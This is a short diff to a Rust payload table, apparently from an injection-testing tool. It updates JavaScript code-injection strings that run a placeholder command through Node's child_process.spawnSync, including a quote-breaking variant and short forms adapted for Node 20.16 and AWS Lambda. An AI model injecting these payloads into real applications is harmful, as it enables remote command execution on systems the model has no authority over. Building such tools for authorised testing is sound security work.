@@ -35,11 +35,11 @@ pub(super) const PAYLOADS: &[Payload] = &[
         "javascript-expression",
         "(process.getBuiltinModule||(m=>process.mainModule.require(m)))('child_process').spawnSync('{C}')",
     ),
-    // Short, for a field with a length limit; needs a CommonJS main module, as our client is.
-    javascript("javascript-short", "process.mainModule.require('child_process').spawnSync('{C}')"),
+    // Short, for a field with a length limit; needs Node 20.16, as Lambda has (and no main module).
+    javascript("javascript-short", "process.getBuiltinModule('child_process').spawnSync('{C}')"),
     javascript(
         "javascript-short-single-quotes",
-        "'+process.mainModule.require('child_process').spawnSync('{C}')+'",
+        "'+process.getBuiltinModule('child_process').spawnSync('{C}')+'",
     ),
     // Inside a template literal whose quotes are removed or escaped.
     javascript(
